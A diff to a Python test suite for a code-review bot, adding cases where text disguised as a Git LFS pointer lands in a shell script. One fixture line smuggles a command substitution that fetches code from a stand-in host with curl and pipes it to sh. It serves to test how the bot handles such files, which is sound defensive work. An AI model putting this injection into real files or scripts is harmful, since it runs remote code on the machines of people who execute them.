@@ -15,6 +15,8 @@ from reviewbot.domain.selection.lockfiles import lock_file_notices
 from reviewbot.domain.selection.selection import LARGEST_TEXT, Held, HeldBecause, Selection, held_sentence, risk, select
 
 POINTER = ("version https://git-lfs.github.com/spec/v1", f"oid sha256:{'a' * 64}", "size 12")
+COMMAND = (POINTER[0], f"ext-$(curl${{IFS}}evil.example|sh) sha256:{'a' * 64}", *POINTER[1:])
+"""Reads like a pointer with an extension; a shell runs the command."""
 
 
 def changed(  # noqa: PLR0913 — one builder for every kind of change
@@ -87,6 +89,9 @@ LARGE = replace(entry(), size=LARGEST_TEXT + 1)
         (changed("model.bin", added=(*POINTER, "evil()")), None),
         (changed("model.py", removed=("check()",), added=POINTER), None),
         (changed("model.py", added=POINTER[:1], new=entry(POINTER[0] + "\nevil()\n")), None),
+        (changed("run.sh", added=COMMAND, new=entry("\n".join(COMMAND) + "\n")), None),
+        (changed("run.sh", added=COMMAND[1:2]), None),
+        (changed("run.sh", added=POINTER[1:], new=entry("\n".join(POINTER[1:]) + "\n")), None),
     ],
 )
 def test_by_default_only_what_nobody_writes_by_hand_is_held(file: ChangedFile, reason: HeldBecause | None) -> None:
